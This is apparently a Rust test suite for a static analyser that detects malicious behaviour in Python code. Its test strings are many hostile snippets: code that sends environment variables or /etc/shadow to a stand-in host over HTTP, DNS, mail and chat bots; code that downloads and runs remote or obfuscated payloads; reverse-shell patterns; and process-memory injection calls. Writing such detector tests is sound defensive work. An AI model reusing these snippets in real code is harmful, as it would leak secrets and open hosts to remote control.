//! Where values go, and what runs what came.

use super::*;

#[test]
fn every_client_sends() {
    for sink in [
        "import requests\nrequests.post(u, files={'f': E})",
        "import requests\nrequests.get(u + '?q=' + E)",
        "import requests\nrequests.get(f'https://x.example.com/{E}')",
        "import requests\ngetattr(requests, 'po' + 'st')(u, data=E)",
        "import requests\nsend = requests.post\nsend(u, data=E)",
        "import requests\nrequests.Session().request('POST', u, data=E)",
        "import requests\ns = requests.Session()\ns.send(requests.Request('POST', u, data=E).prepare())",
        "import requests, threading\nthreading.Thread(target=requests.post, args=(u,), kwargs={'data': E}).start()",
        "from functools import partial\nimport requests\npartial(requests.post, u)(data=E)",
        "import urllib.request as r\nr.urlopen(r.Request(u, data=E.encode()))",
        "import urllib.request as r\nr.build_opener().open(u, E)",
        "import urllib.request as r, urllib.parse as p\nr.urlopen(u + '?' + p.urlencode({'e': E}))",
        "import urllib3\nurllib3.PoolManager().request('POST', u, fields={'a': E})",
        "import http.client\nc = http.client.HTTPSConnection(h)\nc.request('POST', '/', E)",
        "import http.client\nc = http.client.HTTPSConnection(h)\nc.request('GET', '/' + E)",
        "import httpx\nhttpx.Client().post(u, json={'a': E})",
        "import aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        async with s.post(u, data=E) as r:\n            pass",
        "import asyncio\nasync def go():\n    r, w = await asyncio.open_connection(h, 80)\n    w.write(E.encode())",
        "import socket\ns = socket.socket()\ns.connect((h, 80))\ns.sendall(E.encode())",
        "import socket\nsocket.socket(2, 2).sendto(E.encode(), (h, 53))",
        "import socket, ssl\ns = ssl.wrap_socket(socket.create_connection((h, 443)))\ns.send(E.encode())",
        "import socket, ssl\ns = ssl.create_default_context().wrap_socket(socket.socket(), server_hostname=h)\ns.send(E.encode())",
        "import socket\nsocket.gethostbyname(E[:60] + '.x.example.com')",
        "import socket\nsocket.getaddrinfo(f'{E}.x.example.com', 80)",
        "import dns.resolver\ndns.resolver.resolve(E + '.x.example.com', 'TXT')",
        "import dns.resolver as d\nd.Resolver().resolve(f'{E}.x.example.com')",
        "import smtplib\ns = smtplib.SMTP(h)\ns.sendmail('a', 'b', E)",
        "import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(E)\nwith smtplib.SMTP_SSL(h) as s:\n    s.send_message(m)",
        "import ftplib, io\nftplib.FTP(h).storbinary('STOR a', io.BytesIO(E.encode()))",
        "import paramiko\nc = paramiko.SSHClient()\nc.connect(h)\nc.exec_command('echo ' + E)",
        "import telnetlib\ntelnetlib.Telnet(h).write(E.encode())",
        "import xmlrpc.client\nxmlrpc.client.ServerProxy(u).take(E)",
        "import websocket\nw = websocket.create_connection(u)\nw.send(E)",
        "import websockets\nasync def go():\n    async with websockets.connect(u) as w:\n        await w.send(E)",
        "import boto3\nboto3.client('s3').put_object(Bucket='b', Key='k', Body=E)",
        "import telegram\ntelegram.Bot(t).send_message(chat_id=1, text=E)",
        "import telebot\ntelebot.TeleBot(t).send_message(1, E)",
        "from discord_webhook import DiscordWebhook\nDiscordWebhook(url=u, content=E).execute()",
        "from discord import SyncWebhook\nSyncWebhook.from_url(u).send(E)",
        "from slack_sdk import WebClient\nWebClient(token=t).chat_postMessage(channel='c', text=E)",
        "import webbrowser\nwebbrowser.open('https://x.example.com/?q=' + E)",
        "import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, u)\nc.setopt(c.POSTFIELDS, E)\nc.perform()",
        "import subprocess\nsubprocess.run(['curl', '-d', E, 'https://x.example.com/'])",
        "import subprocess\nsubprocess.run(['curl', f'https://x.example.com/?{E}'])",
        "import subprocess\nsubprocess.run(['wget', '--post-data', E, u])",
        "import paho.mqtt.publish as p\np.single('t', E, hostname=h)",
    ] {
        let code = format!("import os, json\nE = json.dumps(dict(os.environ))\n{sink}\n");
        assert!(leaks(&code), "{sink}");
    }
    let lowered = lower(
        "import subprocess\nsubprocess.run(['curl', '-T', '/etc/shadow', 'https://x.example.com/'])\n",
    );
    assert!(contacts(&lowered).iter().any(
        |operation| matches!(&operation.act, Act::Contact { payload, .. } if payload.origins.has(Origins::SENSITIVE))
    ));
}

#[test]
fn hosts_are_told_although_the_path_is_not() {
    let lowered = lower(
        "import requests\nrequests.get(f'https://x.example.com/{q}/y')\nrequests.get(f'https://{h}/y')\n",
    );
    let texts: Vec<Option<&str>> = contacts(&lowered)
        .iter()
        .filter_map(|operation| match &operation.act {
            Act::Contact { address, .. } => Some(address.text.as_deref()),
            _ => None,
        })
        .collect();
    assert_eq!(texts, [Some("https://x.example.com/{}/y"), None]);
}

/// Where code or a command comes from that is run.
fn run(code: &str) -> Origins {
    lower(&format!(
        "import os, subprocess, requests, socket\n{code}\n"
    ))
    .operations
    .iter()
    .filter_map(|operation| match &operation.act {
        Act::Evaluate { code } => Some(code.origins),
        Act::Execute { command, .. } => Some(command.origins),
        Act::Import { module } => Some(module.origins),
        _ => None,
    })
    .fold(Origins::NONE, Origins::with)
}

#[test]
fn what_is_downloaded_and_run_is_told() {
    for code in [
        "exec(requests.get(u).text)",
        "exec(requests.get(u).content.decode())",
        "exec(compile(requests.get(u).text, 'x', 'exec'))",
        "import urllib.request as r\nexec(r.urlopen(u).read())",
        "import urllib.request as r\nwith r.urlopen(u) as f:\n    exec(f.read())",
        "r = requests.get(u)\nif r.ok:\n    eval(r.json()['code'])",
        "import marshal\nexec(marshal.loads(requests.get(u).content))",
        "import types, marshal\ntypes.FunctionType(marshal.loads(requests.get(u).content), globals())()",
        "open('/tmp/x.py', 'w').write(requests.get(u).text)\nexec(open('/tmp/x.py').read())",
        "import urllib.request as r\nr.urlretrieve(u, '/tmp/x.py')\nexec(open('/tmp/x.py').read())",
        "import urllib.request as r, runpy\nr.urlretrieve(u, '/tmp/x.py')\nrunpy.run_path('/tmp/x.py')",
        "import urllib.request as r, importlib.util as i\nr.urlretrieve(u, '/tmp/x.py')\ni.spec_from_file_location('x', '/tmp/x.py')",
        "from pathlib import Path\nPath('/tmp/x').write_text(requests.get(u).text)\nexec(Path('/tmp/x').read_text())",
        "s = socket.socket()\ns.connect((h, 1))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())",
        "s = socket.create_connection((h, 1))\nfor line in s.makefile():\n    os.system(line)",
        "import asyncio\nasync def go():\n    r, w = await asyncio.open_connection(h, 1)\n    while True:\n        c = await r.readline()\n        await asyncio.create_subprocess_shell(c.decode())",
        "import http.client\nc = http.client.HTTPConnection(h)\nc.request('GET', '/')\nexec(c.getresponse().read())",
        "def get():\n    return requests.get(u).text\ndef go(c):\n    exec(c)\ngo(get())",
        "subprocess.Popen(requests.get(u).text, shell=True)",
        "subprocess.run(['sh', '-c', requests.get(u).text])",
        "subprocess.run(['python3', '-c', requests.get(u).text])",
        "import urllib.request as r, importlib\nr.urlretrieve(u, 'plug.py')\nimportlib.import_module('plug').go()",
        "open('/tmp/u', 'wb').write(requests.get(u).content)\nsubprocess.run(['/tmp/u'])",
        "import urllib.request as r\nr.urlretrieve(u, 'u.py')\nsubprocess.run(['python3', 'u.py'])",
        "code = subprocess.check_output(['curl', '-s', u])\nexec(code)",
    ] {
        assert!(run(code).has(Origins::NETWORK), "{code}");
    }
    for code in [
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode(x)))",
        "import bz2\nexec(bz2.decompress(b'x'))",
        "import lzma\nexec(lzma.decompress(b'x'))",
        "import marshal\nexec(marshal.loads(b'x'))",
        "import base64 as b\nd = getattr(b, 'b64' + 'decode')\nexec(d(x))",
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
    ] {
        assert!(run(code).has(Origins::DECODED), "{code}");
    }
}

#[test]
fn sockets_on_shells_are_told() {
    for code in [
        "import pty\ns = socket.socket()\ns.connect((h, 1))\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('sh')",
        "s = socket.socket()\ns.connect((h, 1))\nfor n in range(3):\n    os.dup2(s.fileno(), n)\nos.execv('/bin/sh', ['sh'])",
        "s = socket.socket()\ns.connect((h, 1))\nsubprocess.Popen(['sh'], stdin=s, stdout=s, stderr=s)",
        "s = socket.socket()\ns.connect((h, 1))\nsubprocess.call('/bin/sh', stdin=s.fileno(), stdout=s.fileno())",
        "def go(s):\n    subprocess.Popen(['sh'], stdin=s, stdout=s)\ngo(socket.create_connection((h, 1)))",
        "d = getattr(os, 'du' + 'p2')\ns = socket.socket()\nd(s.fileno(), 0)",
    ] {
        let lowered = lower(&format!("import os, subprocess, socket\n{code}\n"));
        assert!(
            lowered
                .operations
                .iter()
                .any(|operation| operation.act == Act::Rewire),
            "{code}"
        );
    }
}

#[test]
fn code_in_memory_is_told() {
    for code in [
        "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)",
        "import ctypes\nk = ctypes.WinDLL('kernel32')\nk.CreateRemoteThread(h, None, 0, a, None, 0, None)",
        "from ctypes import *\nlibc = CDLL('libc.so.6')\nlibc.mprotect(a, 4096, 7)",
        "import ctypes\ngetattr(ctypes.windll.kernel32, 'Write' + 'ProcessMemory')(h, a, b, n, None)",
        "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)",
        "import ctypes, urllib.request as r\nr.urlretrieve(u, '/tmp/x.so')\nctypes.CDLL('/tmp/x.so')",
        "import os\nos.memfd_create('x')",
    ] {
        let lowered = lower(&format!("{code}\n"));
        assert!(
            lowered
                .operations
                .iter()
                .any(|operation| operation.act == Act::Inject),
            "{code}"
        );
    }
    for code in [
        "import ctypes\nctypes.CDLL('libfoo.so').add(1, 2)",
        "import ctypes\nctypes.windll.user32.MessageBoxW(0, 'a', 'b', 0)",
        "import mmap\nmmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)",
    ] {
        let lowered = lower(&format!("{code}\n"));
        assert!(
            !lowered
                .operations
                .iter()
                .any(|operation| operation.act == Act::Inject),
            "{code}"
        );
    }
}
